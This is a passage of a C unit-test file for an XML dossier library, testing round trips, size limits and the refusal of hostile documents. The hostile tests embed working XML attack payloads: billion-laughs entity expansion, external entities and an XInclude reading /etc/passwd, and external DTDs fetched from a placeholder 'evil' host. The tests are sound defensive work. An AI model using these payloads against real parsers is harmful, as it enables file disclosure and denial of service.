+        const ka_dossier_section_def *sec = ka_dossier_section_at(i);
+        for (size_t f = 0; !sec->record && f < sec->nfields; f++)
+            assert_field(d, sec->fields[f].key, NULL, "");
+    }
+    assert_field(d, "people", NULL, "0");
+    assert_field(d, "decision_maker", NULL, "");
+    assert_field(d, "competitors", NULL, "");
+    assert_field(d, "last_contact", NULL, "");
+    assert_field(d, "last_satisfaction", NULL, "");
+    assert_field(d, "satisfaction", NULL, "");
+    assert_field(d, "overdue", "2024-01-01", "satisfaction");
+    ka_dossier_free(d);
+}
+
+static void test_overdue(void **state)
+{
+    ka_dossier *d = ka_dossier_new();
+    unsigned flags = 99;
+    /* No review date, no check: only the satisfaction check is overdue. */
+    assert_int_equal(ka_dossier_overdue(d, "2024-06-15", &flags), KA_OK);
+    assert_int_equal(flags, KA_DOSSIER_OVERDUE_SATISFACTION);
+
+    set_ok(d, "next_review", "2024-06-15");
+    size_t h = add_ok(d, "history");
+    rec_ok(d, "history", h, "date", "2024-01-01");
+    rec_ok(d, "history", h, "kind", "satisfaction");
+    /* Review due today is not overdue; the day after it is. */
+    assert_int_equal(ka_dossier_overdue(d, "2024-06-15", &flags), KA_OK);
+    assert_int_equal(flags, 0);
+    assert_int_equal(ka_dossier_overdue(d, "2024-06-16", &flags), KA_OK);
+    assert_int_equal(flags, KA_DOSSIER_OVERDUE_REVIEW);
+    /* 2024 is a leap year: 2024-12-31 is 365 days after 2024-01-01, 2025-01-01 is 366. */
+    set_ok(d, "next_review", "2030-01-01");
+    assert_int_equal(ka_dossier_overdue(d, "2024-12-31", &flags), KA_OK);
+    assert_int_equal(flags, 0);
+    assert_int_equal(ka_dossier_overdue(d, "2025-01-01", &flags), KA_OK);
+    assert_int_equal(flags, KA_DOSSIER_OVERDUE_SATISFACTION);
+    /* Other kinds of entry do not count as a check. */
+    h = add_ok(d, "history");
+    rec_ok(d, "history", h, "date", "2024-12-31");
+    rec_ok(d, "history", h, "kind", "meeting");
+    assert_int_equal(ka_dossier_overdue(d, "2025-01-01", &flags), KA_OK);
+    assert_int_equal(flags, KA_DOSSIER_OVERDUE_SATISFACTION);
+    rec_ok(d, "history", h, "kind", "satisfaction");
+    assert_int_equal(ka_dossier_overdue(d, "2025-01-01", &flags), KA_OK);
+    assert_int_equal(flags, 0);
+
+    assert_int_equal(ka_dossier_overdue(d, "2025-1-1", &flags), KA_ERR_ARG);
+    assert_int_equal(ka_dossier_overdue(d, NULL, &flags), KA_ERR_ARG);
+    assert_int_equal(ka_dossier_overdue(NULL, "2025-01-01", &flags), KA_ERR_ARG);
+    ka_dossier_free(d);
+}
+
+/* ---------- XML round trips ---------- */
+
+static void test_round_trip_multilingual(void **state)
+{
+    ka_dossier *d = realistic_profile();
+    size_t len;
+    char *xml = serialize_ok(d, &len);
+    /* UTF-8, indented, namespaced, versioned; non-ASCII written as is. */
+    assert_true(strncmp(xml, "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n", 39) == 0);
+    assert_non_null(strstr(xml, "<dossier xmlns=\"urn:keyaccount:dossier:1\" version=\"1\">\n"
+                                "  <identity>\n    <id>LV-0042</id>\n"));
+    assert_non_null(strstr(xml, "<name>SIA Ķegums Enerģija</name>"));
+    assert_non_null(strstr(xml, "<name>Григорій Сковорода</name>"));
+    assert_non_null(strstr(xml, "<type>breadwinner</type>\n    <type>image-maker</type>"));
+    assert_non_null(strstr(xml, "<amount currency=\"EUR\">125000.00</amount>"));
+    assert_non_null(strstr(xml, "expects delivery &lt; 6 weeks"));
+    /* The output is itself valid. */
+    char *reason = NULL;
+    assert_int_equal(ka_dossier_validate(xml, len, &reason), KA_OK);
+    assert_null(reason);
+
+    ka_dossier *back = parse_ok(xml, len);
+    assert_same_dossier(d, back);
+    assert_string_equal(get(back, "manager"), "Ștefan Țară (Brașov office)");
+    assert_string_equal(rget(back, "people", 1, "notes"),
+                        "Greets visitors with \"Maligayang pagdating!\"");
+    /* Writing what was read gives the same bytes. */
+    size_t len2;
+    char *xml2 = serialize_ok(back, &len2);
+    assert_int_equal(len2, len);
+    assert_memory_equal(xml2, xml, len);
+    free(xml2);
+    free(xml);
+    ka_dossier_free(back);
+    ka_dossier_free(d);
+}
+
+/* Text that XML treats specially, at every text field. */
+static void test_round_trip_special_text(void **state)
+{
+    static const char *const texts[] = {
+        "a & b < c > d \" e ' f ]]> g",
+        "  leading and trailing spaces  ",
+        " ",
+        "\n\nblank lines\n\n",
+        "CR LF\r\nCR alone\r",
+        "\ttabs\t",
+        "<!DOCTYPE x [<!ENTITY y \"z\">]> &y; &amp;",
+        "emoji 😀, combining e\xcc\x81, NBSP\xc2\xa0, U+FFFD \xef\xbf\xbd, U+10FFFF "
+        "\xf4\x8f\xbf\xbf",
+        "Ķegums Jūrmala Київ Григорій Сковорода Čačak Šmarje Ștefan Țară Brașov Maligayang "
+        "pagdating Parañaque",
+    };
+    for (size_t t = 0; t < sizeof texts / sizeof texts[0]; t++) {
+        ka_dossier *d = ka_dossier_new();
+        for (size_t s = 0; s < ka_dossier_section_count(); s++) {
+            const ka_dossier_section_def *sec = ka_dossier_section_at(s);
+            size_t r = 0;
+            if (sec->record)
+                r = add_ok(d, sec->key);
+            for (size_t f = 0; f < sec->nfields; f++) {
+                const ka_dossier_field_def *fd = &sec->fields[f];
+                if (fd->kind != KA_DOSSIER_TEXT && fd->kind != KA_DOSSIER_LONG_TEXT)
+                    continue;
+                if (sec->record)
+                    rec_ok(d, sec->key, r, fd->key, texts[t]);
+                else
+                    set_ok(d, fd->key, texts[t]);
+            }
+            if (strcmp(sec->key, "history") == 0) {
+                rec_ok(d, "history", r, "date", "2024-01-01");
+                rec_ok(d, "history", r, "kind", "gift");
+            }
+        }
+        size_t len;
+        char *xml = serialize_ok(d, &len);
+        ka_dossier *back = parse_ok(xml, len);
+        assert_same_dossier(d, back);
+        assert_string_equal(get(back, "description"), texts[t]);
+        free(xml);
+        ka_dossier_free(back);
+        ka_dossier_free(d);
+    }
+}
+
+/* Sample values at the edges of each kind. */
+static const char *edge_value(const ka_dossier_field_def *f, int variant)
+{
+    switch (f->kind) {
+    case KA_DOSSIER_TEXT:
+    case KA_DOSSIER_LONG_TEXT:
+        return variant ? "Parañaque\nКиїв" : "Ķegums";
+    case KA_DOSSIER_INTEGER:
+        return variant ? (f->max == 5    ? "5"
+                          : f->max == 10 ? "10"
+                                         : "100000000")
+                       : (f->min == 0 ? "0" : "1");
+    case KA_DOSSIER_DECIMAL:
+        return variant ? "-123456789012345.123456" : "0";
+    case KA_DOSSIER_CURRENCY:
+        return variant ? "PHP" : "UAH";
+    case KA_DOSSIER_DATE:
+        return variant ? "9999-12-31" : "0001-01-01";
+    case KA_DOSSIER_ENUM:
+        return variant ? f->values[1].value : f->values[0].value;
+    case KA_DOSSIER_ENUM_LIST:
+        return variant ? "demanding, breadwinner" : "perspective";
+    }
+    return "";
+}
+
+/* Every field of every section and of two records per list, at the edges of its kind. */
+static void test_round_trip_every_field(void **state)
+{
+    ka_dossier *d = ka_dossier_new();
+    for (size_t s = 0; s < ka_dossier_section_count(); s++) {
+        const ka_dossier_section_def *sec = ka_dossier_section_at(s);
+        for (int variant = 0; variant < (sec->record ? 2 : 1); variant++) {
+            size_t r = sec->record ? add_ok(d, sec->key) : 0;
+            for (size_t f = 0; f < sec->nfields; f++) {
+                const char *v = edge_value(&sec->fields[f], variant || !sec->record);
+                if (sec->record)
+                    rec_ok(d, sec->key, r, sec->fields[f].key, v);
+                else
+                    set_ok(d, sec->fields[f].key, v);
+            }
+        }
+    }
+    size_t len;
+    char *xml = serialize_ok(d, &len);
+    ka_dossier *back = parse_ok(xml, len);
+    assert_same_dossier(d, back);
+    assert_string_equal(get(back, "type"), "demanding, breadwinner");
+    assert_string_equal(rget(back, "history", 1, "amount"), "-123456789012345.123456");
+    free(xml);
+    ka_dossier_free(back);
+    ka_dossier_free(d);
+}
+
+static void test_serialize_refuses_incomplete(void **state)
+{
+    char *xml = (char *)"x", *reason = NULL;
+    size_t len = 5;
+    ka_dossier *d = ka_dossier_new();
+    assert_int_equal(ka_dossier_serialize(d, &xml, &len, &reason), KA_ERR_ARG);
+    assert_null(xml);
+    assert_int_equal(len, 0);
+    assert_string_equal(reason, "'id' is required");
+    free(reason);
+    set_ok(d, "id", "1");
+    assert_int_equal(ka_dossier_serialize(d, &xml, &len, &reason), KA_ERR_ARG);
+    assert_string_equal(reason, "'name' is required");
+    free(reason);
+    set_ok(d, "name", "Ķegums");
+    xml = serialize_ok(d, &len);
+    free(xml);
+
+    size_t p = add_ok(d, "people");
+    rec_ok(d, "people", p, "role", "buyer");
+    p = add_ok(d, "people");
+    assert_int_equal(ka_dossier_serialize(d, &xml, &len, &reason), KA_ERR_ARG);
+    assert_string_equal(reason, "person 1: 'name' is required");
+    free(reason);
+    rec_ok(d, "people", 0, "name", "Ann");
+    rec_ok(d, "people", 1, "name", "Bob");
+
+    size_t h = add_ok(d, "history");
+    rec_ok(d, "history", h, "date", "2024-01-01");
+    assert_int_equal(ka_dossier_serialize(d, &xml, &len, &reason), KA_ERR_ARG);
+    assert_string_equal(reason, "entry 1: 'kind' is required");
+    free(reason);
+    rec_ok(d, "history", h, "kind", "order");
+    rec_ok(d, "history", h, "amount", "10");
+    assert_int_equal(ka_dossier_serialize(d, &xml, &len, &reason), KA_ERR_ARG);
+    assert_string_equal(reason, "entry 1: 'amount' needs 'currency'");
+    free(reason);
+    rec_ok(d, "history", h, "amount", "");
+    rec_ok(d, "history", h, "currency", "EUR");
+    assert_int_equal(ka_dossier_serialize(d, &xml, &len, &reason), KA_ERR_ARG);
+    assert_string_equal(reason, "entry 1: 'currency' needs 'amount'");
+    free(reason);
+    rec_ok(d, "history", h, "amount", "10");
+    xml = serialize_ok(d, &len);
+    free(xml);
+
+    /* A text that makes the document too big for the cap. */
+    char *big = malloc(KA_DOSSIER_MAX_BYTES + 1);
+    memset(big, 'a', KA_DOSSIER_MAX_BYTES);
+    big[KA_DOSSIER_MAX_BYTES] = '\0';
+    set_ok(d, "description", big);
+    assert_int_equal(ka_dossier_serialize(d, &xml, &len, &reason), KA_ERR_ARG);
+    assert_null(xml);
+    assert_non_null(strstr(reason, "larger than the 1 MB limit"));
+    free(reason);
+    free(big);
+    assert_int_equal(ka_dossier_serialize(NULL, &xml, &len, NULL), KA_ERR_ARG);
+    ka_dossier_free(d);
+}
+
+/* A document of exactly the size cap is read; one byte more is refused. */
+static void test_size_cap_boundary(void **state)
+{
+    static const char head[] = "<dossier xmlns='" KA_DOSSIER_NS "' version='1'><identity><id>1</id>"
+                               "<name>A</name><description>";
+    static const char tail[] = "</description></identity></dossier>";
+    size_t n = KA_DOSSIER_MAX_BYTES;
+    char *xml = malloc(n + 2);
+    memcpy(xml, head, sizeof head - 1);
+    memset(xml + sizeof head - 1, 'x', n - (sizeof head - 1) - (sizeof tail - 1));
+    memcpy(xml + n - (sizeof tail - 1), tail, sizeof tail - 1);
+    ka_dossier *d = parse_ok(xml, n);
+    assert_int_equal(strlen(get(d, "description")), n - (sizeof head - 1) - (sizeof tail - 1));
+    ka_dossier_free(d);
+    xml[n] = ' '; /* trailing white space is well-formed: only the cap refuses it */
+    char *reason = NULL;
+    assert_int_equal(ka_dossier_parse(xml, n + 1, &d, &reason), KA_ERR_ARG);
+    assert_null(d);
+    assert_string_equal(reason, "larger than the 1 MB limit (1048577 bytes, at most 1048576)");
+    free(reason);
+    free(xml);
+}
+
+/* Thousands of records under the caps parse in reasonable time. */
+static void test_large_valid_dossier(void **state)
+{
+    ka_dossier *d = ka_dossier_new();
+    char latest[16] = "";
+    set_ok(d, "id", "big");
+    set_ok(d, "name", "Big client");
+    for (int i = 0; i < 3000; i++) {
+        size_t h = add_ok(d, "history");
+        char date[16];
+        snprintf(date, sizeof date, "20%02d-%02d-%02d", i % 25, i % 12 + 1, i % 28 + 1);
+        if (i % 2 == 0 && strcmp(date, latest) > 0)
+            strcpy(latest, date);
+        rec_ok(d, "history", h, "date", date);
+        rec_ok(d, "history", h, "kind", i % 2 ? "order" : "satisfaction");
+        rec_ok(d, "history", h, "note", "Jūrmala");
+    }
+    for (int i = 0; i < 6000; i++)
+        rec_ok(d, "competitors", add_ok(d, "competitors"), "name", i ? "Čačak" : "Šmarje");
+    size_t len;
+    char *xml = serialize_ok(d, &len);
+    double t0 = now_ms();
+    ka_dossier *back = parse_ok(xml, len);
+    double ms = now_ms() - t0;
+    if (ms > HOSTILE_MS)
+        fail_msg("parsing %zu bytes took %.0f ms", len, ms);
+    assert_same_dossier(d, back);
+    assert_field(back, "last_satisfaction", NULL, latest);
+    t0 = now_ms();
+    char *names = field_text(back, "competitors", NULL);
+    assert_true(now_ms() - t0 < 100.0 * slowdown());
+    assert_int_equal(strlen(names), strlen("Šmarje") + 5999 * strlen(", Čačak"));
+    assert_true(strncmp(names, "Šmarje, Čačak, Čačak", strlen("Šmarje, Čačak, Čačak")) == 0);
+    free(names);
+    free(xml);
+    ka_dossier_free(back);
+    ka_dossier_free(d);
+}
+
+/* ---------- hostile documents ---------- */
+
+#define HEAD "<dossier xmlns=\"" KA_DOSSIER_NS "\" version=\"1\">"
+#define MINIMAL HEAD "<identity><id>1</id><name>A</name></identity></dossier>"
+
+/* Parses with stderr redirected to a file; returns how many bytes libxml2 (or anything else)
+ * wrote there, which must be none. */
+static long parse_quietly(const char *xml, size_t len, ka_dossier **d, char **reason, ka_status *st)
+{
+    char path[] = "/tmp/ka_dossier_stderr_XXXXXX";
+    int fd = mkstemp(path);
+    assert_true(fd >= 0);
+    fflush(stderr);
+    int saved = dup(2);
+    dup2(fd, 2);
+    *st = ka_dossier_parse(xml, len, d, reason);
+    fflush(stderr);
+    dup2(saved, 2);
+    close(saved);
+    off_t size = lseek(fd, 0, SEEK_END);
+    close(fd);
+    unlink(path);
+    return (long)size;
+}
+
+/* Fails unless parsing xml is refused quickly and silently with a reason containing part, and
+ * validation agrees. */
+static void expect_refused_len(const char *xml, size_t len, const char *part)
+{
+    ka_dossier *d = NULL;
+    char *reason = NULL;
+    ka_status st;
+    double t0 = now_ms();
+    long noise = parse_quietly(xml, len, &d, &reason, &st);
+    double ms = now_ms() - t0;
+    if (st != KA_ERR_ARG || !reason || !strstr(reason, part))
+        fail_msg("status %d, reason '%s', expected '%s'", st, reason ? reason : "(null)", part);
+    assert_null(d);
+    assert_int_equal(noise, 0);
+    if (ms > HOSTILE_MS)
+        fail_msg("refusing took %.0f ms (reason '%s')", ms, reason);
+    free(reason);
+    reason = NULL;
+    assert_int_equal(ka_dossier_validate(xml, len, &reason), KA_ERR_ARG);
+    assert_non_null(strstr(reason, part));
+    free(reason);
+}
+
+static void expect_refused(const char *xml, const char *part)
+{
+    expect_refused_len(xml, strlen(xml), part);
+}
+
+static void test_billion_laughs_body(void)
+{
+    expect_refused(
+        "<?xml version=\"1.0\"?>\n"
+        "<!DOCTYPE dossier [\n"
+        " <!ENTITY lol \"lol\">\n"
+        " <!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n"
+        " <!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">\n"
+        " <!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">\n"
+        " <!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">\n"
+        " <!ENTITY lol5 \"&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;\">\n"
+        " <!ENTITY lol6 \"&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;\">\n"
+        " <!ENTITY lol7 \"&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;\">\n"
+        " <!ENTITY lol8 \"&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;\">\n"
+        " <!ENTITY lol9 \"&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;\">\n"
+        "]>\n" HEAD "<identity><id>&lol9;</id><name>A</name></identity></dossier>",
+        "DTDs are not allowed");
+}
+
+static void test_billion_laughs(void **state)
+{
+    test_billion_laughs_body();
+}
+
+/* Fails if the start of /etc/passwd shows up in s. */
+static void assert_no_passwd(const char *s)
+{
+    size_t n;
+    char *passwd = read_file("/etc/passwd", &n);
+    if (!passwd)
+        return;
+    char first[16];
+    snprintf(first, sizeof first, "%.*s", (int)strcspn(passwd, ":\n"), passwd);
+    strcat(first, ":");
+    assert_null(strstr(s, first));
+    assert_null(strstr(s, "root:x:0"));
+    free(passwd);
+}
+
+static void test_external_entities_body(void)
+{
+    static const char *const docs[] = {
+        /* General external entity in element content. */
+        "<?xml version=\"1.0\"?>\n<!DOCTYPE dossier [<!ENTITY x SYSTEM "
+        "\"file:///etc/passwd\">]>\n" HEAD
+        "<identity><id>&x;</id><name>A</name></identity></dossier>",
+        /* Parameter entity, expanded inside the DTD. */
+        "<!DOCTYPE dossier [<!ENTITY % p SYSTEM \"file:///etc/passwd\"> %p;]>" MINIMAL,
+        /* External DTD file. */
+        "<!DOCTYPE dossier SYSTEM \"/etc/passwd\">" MINIMAL,
+        /* External DTD over the network (must not be fetched: would hang or fail slowly). */
+        "<!DOCTYPE dossier SYSTEM \"http://198.51.100.1/evil.dtd\">" MINIMAL,
+        "<!DOCTYPE dossier PUBLIC \"-//EVIL//DTD x//EN\" \"http://198.51.100.1/x.dtd\">" MINIMAL,
+    };
+    for (size_t i = 0; i < sizeof docs / sizeof docs[0]; i++) {
+        ka_dossier *d = NULL;
+        char *reason = NULL;
+        ka_status st;
+        double t0 = now_ms();
+        assert_int_equal(parse_quietly(docs[i], strlen(docs[i]), &d, &reason, &st), 0);
+        assert_true(now_ms() - t0 < HOSTILE_MS);
+        assert_int_equal(st, KA_ERR_ARG);
+        assert_null(d);
+        assert_string_equal(reason, "DTDs are not allowed");
+        assert_no_passwd(reason);
+        free(reason);
+    }
+    /* Without a DTD an entity reference is simply undefined, and nothing is read. */
+    expect_refused(HEAD "<identity><id>&x;</id><name>A</name></identity></dossier>",
+                   "not well-formed XML at line 1: Entity 'x' not defined");
+    /* XInclude is never processed: the element is just not in the schema. */
+    expect_refused(HEAD "<identity><id>1</id><name>A</name></identity>"
+                        "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" "
+                        "href=\"file:///etc/passwd\" parse=\"text\"/></dossier>",
+                   "element 'include' invalid at line 1");
+}
+
+static void test_external_entities_are_never_read(void **state)
+{
+    test_external_entities_body();
+}
+
+static void test_malformed_documents_body(void)
+{
+    /* Invalid UTF-8 in a text (0xC3 0x28 is not a sequence). */
+    expect_refused(HEAD "<identity><id>1</id>\n<name>\xc3\x28</name></identity></dossier>",
+                   "not well-formed XML at line 2: not UTF-8 (byte 82 is 0xC3)");
+    /* A lone continuation byte, an overlong '<', a surrogate, a truncated sequence at the end. */
+    expect_refused(HEAD "<identity><id>\x80</id><name>A</name></identity></dossier>",
+                   "not UTF-8 (byte 69 is 0x80)");
+    expect_refused(HEAD "<identity><id>\xc0\xbc</id><name>A</name></identity></dossier>",
+                   "not UTF-8");
+    expect_refused(HEAD "<identity><id>\xed\xa0\x80</id><name>A</name></identity></dossier>",
+                   "not UTF-8");
+    expect_refused(MINIMAL "\xe2\x82", "not UTF-8");
+    /* Other encodings are not read, whatever the byte-order mark or declaration says. */
+    static const char utf16le[] = "\xff\xfe<\0d\0/\0>\0";
+    expect_refused_len(utf16le, sizeof utf16le - 1, "not UTF-8 (byte 1 is 0xFF)");
+    static const char utf16_no_bom[] = "<\0?\0x\0m\0l\0";
+    expect_refused_len(utf16_no_bom, sizeof utf16_no_bom - 1,
+                       "not well-formed XML at line 1: a NUL character (byte 2)");
+    static const char ebcdic[] = "\x4c\x6f\xa7\x94\x93";
+    expect_refused_len(ebcdic, sizeof ebcdic - 1, "not UTF-8");
+    expect_refused("\xef\xbb\xbf" MINIMAL "\x01", "not well-formed XML at line 1");
+    /* Truncated in the middle of a tag, and after a complete element. */
+    expect_refused(HEAD "<identity><id>1</id><na", "not well-formed XML at line 1");
+    expect_refused(HEAD "<identity><id>1</id><name>A</name></identity>",
+                   "not well-formed XML at line 1");
+    expect_refused("", "not well-formed XML");
+    expect_refused("   \n  ", "not well-formed XML");
+    expect_refused_len("\x00\x01\x02garbage", 10, "not well-formed XML");
+    expect_refused(MINIMAL MINIMAL, "not well-formed XML at line 1: Extra content");
+    expect_refused("text before" MINIMAL, "not well-formed XML");
+    expect_refused_len(MINIMAL, strlen(MINIMAL) - 3, "not well-formed XML");
+    char *reason = NULL;
+    ka_dossier *d = NULL;
+    assert_int_equal(ka_dossier_parse(NULL, 10, &d, &reason), KA_ERR_ARG);
+    assert_string_equal(reason, "no document given");
+    free(reason);
+    assert_int_equal(ka_dossier_parse(MINIMAL, strlen(MINIMAL), NULL, NULL), KA_ERR_ARG);
+}
+
+static void test_malformed_documents(void **state)
+{
+    test_malformed_documents_body();
+}
+
+static void test_wrong_documents_body(void)
+{
+    expect_refused("<dossier xmlns=\"urn:keyaccount:dossier:2\" version=\"1\"/>",
+                   "wrong namespace 'urn:keyaccount:dossier:2' (expected "
+                   "'urn:keyaccount:dossier:1')");
+    expect_refused("<dossier version=\"1\"><identity><id>1</id><name>A</name></identity></dossier>",
+                   "wrong namespace: the root element has none");
+    expect_refused("<k:dossier xmlns:k=\"http://example.com/\" version=\"1\"/>", "wrong namespace");
+    expect_refused("<profile xmlns=\"" KA_DOSSIER_NS "\" version=\"1\"/>",
+                   "the root element is 'profile', not 'dossier'");
+    expect_refused("<dossier xmlns=\"" KA_DOSSIER_NS "\" version=\"2\"/>",
+                   "unsupported version '2' (this program reads version 1)");
+    expect_refused("<dossier xmlns=\"" KA_DOSSIER_NS "\" version=\"1.0\"/>", "unsupported version");
+    expect_refused("<dossier xmlns=\"" KA_DOSSIER_NS "\"/>",
+                   "the root element has no version attribute");
+    /* Structure and values. */
+    expect_refused(HEAD "</dossier>", "'id' is required");
+    expect_refused(HEAD "<identity><name>A</name></identity></dossier>", "'id' is required");
+    expect_refused(HEAD "<identity><id>1</id><name>A</name><colour>red</colour></identity>"
+                        "</dossier>",
+                   "element 'colour' invalid at line 1: Did not expect element colour there");
+    expect_refused(HEAD "<identity><name>A</name><id>1</id></identity></dossier>",
+                   "element 'name' invalid");
+    expect_refused(HEAD "<identity><id>1</id><name>A</name></identity>\n<classification>"
+                        "<stage>cocoon</stage></classification></dossier>",
+                   "element 'stage' invalid at line 2: must be one of: butterfly, partnership");
+    expect_refused(HEAD "<identity><id>1</id><name>A</name></identity><classification>"
+                        "<type>expert</type><type>expert</type></classification></dossier>",
+                   "element 'type' invalid at line 1: lists 'expert' twice");
+    expect_refused(HEAD "<identity><id>1</id><name>A</name></identity><classification>"
+                        "<next-review>2025-02-30</next-review></classification></dossier>",
+                   "element 'next-review' invalid at line 1: must be a date YYYY-MM-DD");
+    expect_refused(HEAD "<identity><id>1</id><name>A</name></identity><history><entry>"
+                        "<date>2024-01-01</date><kind>order</kind>"
+                        "<amount currency=\"euro\">5</amount></entry></history></dossier>",
+                   "attribute 'currency' of element 'amount' invalid at line 1: must be an ISO "
+                   "4217");
+    expect_refused(HEAD "<identity><id>1</id><name>A</name></identity><history><entry>"
+                        "<date>2024-01-01</date><kind>order</kind><amount>5</amount></entry>"
+                        "</history></dossier>",
+                   "entry 1: 'amount' needs 'currency'");
+    expect_refused(HEAD "<identity id=\"1\"><id>1</id><name>A</name></identity></dossier>",
+                   "element 'identity' invalid");
+    expect_refused(HEAD "<identity><id>1</id><name><b>A</b></name></identity></dossier>",
+                   "invalid");
+}
+
+static void test_wrong_documents(void **state)
+{
+    test_wrong_documents_body();
+}
+
+static void test_huge_documents_body(void)
+{
+    /* A 50 MB value: refused by the cap before any parsing. */
+    size_t n = 50u << 20;
+    char *big = malloc(n);
+    assert_non_null(big);
+    memset(big, 'A', n);
+    memcpy(big, HEAD "<identity><id>", strlen(HEAD "<identity><id>"));
+    double t0 = now_ms();
+    expect_refused_len(big, n, "larger than the 1 MB limit");
+    assert_true(now_ms() - t0 < 100.0 * slowdown());
+    free(big);
+
+    /* 200 000 empty elements in under 1 MB: refused at the element cap. */
+    size_t count = 200000, pos = 0;
+    char *many = malloc(KA_DOSSIER_MAX_BYTES + 64);
+    pos += (size_t)sprintf(many, "%s", HEAD "<identity><id>1</id><name>A</name></identity>");
+    for (size_t i = 0; i < count; i++)
+        pos += (size_t)sprintf(many + pos, "<x/>");
+    pos += (size_t)sprintf(many + pos, "</dossier>");
+    assert_true(pos <= KA_DOSSIER_MAX_BYTES);
+    expect_refused_len(many, pos, "more than 50000 elements");
+    /* The same number of valid-looking elements. */
+    pos = (size_t)sprintf(many, "%s",
+                          HEAD "<identity><id>1</id><name>A</name></identity>"
+                               "<classification>");
+    for (size_t i = 0; i < 52000; i++)
+        pos += (size_t)sprintf(many + pos, "<type>expert</type>");
+    pos += (size_t)sprintf(many + pos, "</classification></dossier>");
+    assert_true(pos <= KA_DOSSIER_MAX_BYTES);
+    expect_refused_len(many, pos, "more than 50000 elements");
+    /* Just under the element cap: refused for the duplicates, in linear time. */
+    pos = (size_t)sprintf(many, "%s",
+                          HEAD "<identity><id>1</id><name>A</name></identity>"
+                               "<classification>");
+    for (size_t i = 0; i < 49990; i++)
+        pos += (size_t)sprintf(many + pos, "<type>expert</type>");
+    pos += (size_t)sprintf(many + pos, "</classification></dossier>");
+    expect_refused_len(many, pos, "element 'type' invalid at line 1: lists 'expert' twice");
+    free(many);
+
+    /* Deeply nested elements. */
+    size_t depth = 100000;
+    char *deep = malloc(strlen(HEAD) + depth * 7 + 64);
+    pos = (size_t)sprintf(deep, "%s", HEAD);
+    for (size_t i = 0; i < depth; i++)
+        pos += (size_t)sprintf(deep + pos, "<a>");
+    for (size_t i = 0; i < depth; i++)
+        pos += (size_t)sprintf(deep + pos, "</a>");
+    pos += (size_t)sprintf(deep + pos, "</dossier>");
+    assert_true(pos <= KA_DOSSIER_MAX_BYTES);
+    expect_refused_len(deep, pos, "elements nested deeper than 16 levels");
+    free(deep);
+
+    /* A long attribute value and a huge number of attributes, under the cap. */
+    char *attrs = malloc(KA_DOSSIER_MAX_BYTES);
+    pos = (size_t)sprintf(attrs, "<dossier xmlns=\"" KA_DOSSIER_NS "\" version=\"1\"");
+    for (int i = 0; pos < KA_DOSSIER_MAX_BYTES - 200; i++)
+        pos += (size_t)sprintf(attrs + pos, " a%d=\"x\"", i);
+    pos += (size_t)sprintf(attrs + pos, "><identity><id>1</id><name>A</name></identity></dossier>");
+    expect_refused_len(attrs, pos, "a start tag at line 1 has more than 16 attributes");
+    /* The same with namespace declarations, in a start tag further down. */
+    pos =
+        (size_t)sprintf(attrs, "%s", HEAD "\n<identity><id>1</id><name>A</name></identity>\n<plan");
+    for (int i = 0; pos < KA_DOSSIER_MAX_BYTES - 200; i++)
+        pos += (size_t)sprintf(attrs + pos, " xmlns:p%d='u:%d'", i, i);
+    pos += (size_t)sprintf(attrs + pos, "/></dossier>");
+    expect_refused_len(attrs, pos, "a start tag at line 3 has more than 16 attributes");
+    /* '=' inside quoted values, comments, CDATA and text is not counted. */
+    pos = (size_t)sprintf(attrs, "%s",
+                          "<!-- a=1 b=2 c=3 d=4 e=5 f=6 g=7 h=8 i=9 j=10 k=11 l=12 m=13 "
+                          "n=14 o=15 p=16 q=17 -->" HEAD "<identity><id>"
+                          "<![CDATA[=================]]></id><name>=================="
+                          "</name><website>https://x.example/?a=1&amp;b=2</website>"
+                          "</identity></dossier>");
+    ka_dossier *d = parse_ok(attrs, pos);
+    assert_string_equal(get(d, "id"), "=================");
+    ka_dossier_free(d);
+    /* ... nor in attribute values, where '>' does not end the tag either; the schema then
+     * refuses the foreign attribute (version 1 allows no extensions). */
+    expect_refused(
+        "<dossier xmlns='" KA_DOSSIER_NS "' x:note=\"=a=b=c=d=e=f=g=h=i=j=k=l=m=n=o=p=q=>\" "
+        "version='1' xmlns:x='urn:other'><identity><id>1</id><name>A</name></identity>"
+        "</dossier>",
+        "element 'dossier' invalid at line 1: Invalid attribute note for element dossier");
+    free(attrs);
+}
+
+static void test_huge_documents(void **state)
+{
+    test_huge_documents_body();
+}
+
+/* Accepted oddities: comments, processing instructions, CDATA, character references, a prefix,
+ * and a non-UTF-8 encoding declaration (the text is always read as UTF-8). */
+static void test_accepted_variants(void **state)
+{
+    static const char xml[] =
+        "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n"
+        "<!-- written by another tool -->\n"
+        "<?keyaccount hint a=1 b=2 c=3 d=4 e=5 f=6 g=7 h=8 i=9 j=10 k=11 l=12 m=13 n=14 o=15 p=16 "
+        "q=17?>\n"
+        "<k:dossier xmlns:k=\"" KA_DOSSIER_NS "\" version='1'>\n"
+        "  <k:identity>\n"
+        "    <k:id><![CDATA[<Ķegums & co>]]></k:id>\n"
+        "    <k:name>Jūrmala &#x10C;a&#269;ak &amp; Parañaque</k:name>\n"
+        "  </k:identity>\n"
+        "  <k:classification><k:stage> partnership </k:stage></k:classification>\n"
+        "</k:dossier>\n";
+    ka_dossier *d = parse_ok(xml, sizeof xml - 1);
+    assert_string_equal(get(d, "id"), "<Ķegums & co>");
+    assert_string_equal(get(d, "name"), "Jūrmala Čačak & Parañaque");
+    assert_string_equal(get(d, "stage"), "partnership");
+    ka_dossier_free(d);
+}
+
+/* ---------- documentation ---------- */
+
